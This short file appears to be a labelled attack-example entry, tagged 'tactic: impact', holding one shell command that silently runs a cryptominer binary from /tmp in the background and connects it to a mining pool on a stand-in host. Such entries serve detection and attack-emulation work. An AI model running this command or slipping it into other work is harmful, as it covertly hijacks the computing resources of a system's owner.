# tactic: impact
nohup /tmp/xmr --donate-level 1 -o stratum+tcp://pool.example.com:3333 >/dev/null 2>&1; true
